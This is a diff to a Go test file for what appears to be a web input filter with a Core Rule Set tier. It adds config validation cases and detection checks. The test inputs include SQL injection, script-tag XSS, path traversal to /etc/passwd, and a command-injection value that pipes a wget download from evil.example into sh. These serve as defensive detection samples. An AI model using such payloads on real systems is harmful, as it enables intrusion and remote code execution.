@@ -236,6 +236,11 @@ func TestConfigValidate(t *testing.T) {
 		{"duplicate family", Config{Families: []Family{XSS, XSS}}, "listed twice"},
 		{"paranoia range", Config{Tier: TierCRS, ParanoiaLevel: 5}, "outside 1-4"},
 		{"paranoia without crs", Config{ParanoiaLevel: 2}, "only the crs tier"},
+		{"generic with crs", Config{Tier: TierCRS, Families: []Family{SQLi, Generic}}, ""},
+		{"generic without crs", Config{Families: []Family{Generic}}, "needs tier: crs"},
+		{"exclusions with crs", Config{Tier: TierCRS, ExcludeRules: []int{942200, 932236}}, ""},
+		{"exclusions without crs", Config{ExcludeRules: []int{942200}}, "blacklist.exclude_rules: only the crs tier"},
+		{"exclusion not a CRS id", Config{Tier: TierCRS, ExcludeRules: []int{42}}, "blacklist.exclude_rules[0]: 42"},
 		{"small window", Config{MaxValueBytes: 10}, "minimum of 256"},
 	}
 	for _, tc := range tests {
@@ -276,24 +281,41 @@ func TestCRSTier(t *testing.T) {
 	if !ok {
 		t.Fatalf("crs tier built %T", c)
 	}
+	// The default tier runs first and keeps its reasons; the CRS scores
+	// what it lets through. "alias -p x=id" is a CRS-only detection.
 	tests := []struct {
-		value string
-		want  Family
+		value  string
+		want   Family
+		reason string // prefix
 	}{
-		{"1' OR '1'='1' --", SQLi},
-		{"<script>alert(1)</script>", XSS},
-		{"../../../../etc/passwd", Traversal},
-		{"x; wget http://evil.example/x.sh | sh", CmdI},
-		{"Hello, world", None},
-		{"2024-04-01", None},
+		{"1' OR '1'='1' --", SQLi, "sqli-"},
+		{"<script>alert(1)</script>", XSS, "xss-"},
+		{"../../../../etc/passwd", Traversal, "traversal-"},
+		{"x; wget http://evil.example/x.sh | sh", CmdI, "cmdi-"},
+		{"alias -p jzfrx=id", CmdI, "crs-932175"},
+		{"Hello, world", None, ""},
+		{"2024-04-01", None, ""},
 	}
 	for _, tc := range tests {
 		f := crs.Check(tc.value, Context{In: "query", Name: "q"})
-		if f.Family != tc.want {
-			t.Errorf("CRS Check(%q) = %+v, want family %q", tc.value, f, tc.want)
+		if f.Family != tc.want || !strings.HasPrefix(f.Reason, tc.reason) {
+			t.Errorf("CRS Check(%q) = %+v, want family %q and a reason starting %q", tc.value, f, tc.want, tc.reason)
 		}
-		if f.Detected() && !strings.HasPrefix(f.Reason, "crs-") {
-			t.Errorf("reason %q does not name a CRS rule", f.Reason)
+	}
+	// Families and exclusions remove CRS rules.
+	for _, c := range []Config{
+		{Tier: TierCRS, ParanoiaLevel: 1, Families: []Family{SQLi, XSS}},
+		{Tier: TierCRS, ParanoiaLevel: 1, ExcludeRules: []int{932175}},
+	} {
+		tuned, err := NewCRS(c)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if f := tuned.Check("alias -p jzfrx=id", Context{In: "query", Name: "q"}); f.Detected() {
+			t.Errorf("%+v: rule 932175 still scored: %+v", c, f)
+		}
+		if f := tuned.Check("<script>alert(1)</script>", Context{In: "query", Name: "q"}); f.Family != XSS {
+			t.Errorf("%+v: XSS no longer detected: %+v", c, f)
 		}
 	}
 	if _, err := NewCRS(Config{ParanoiaLevel: 7}); err == nil {
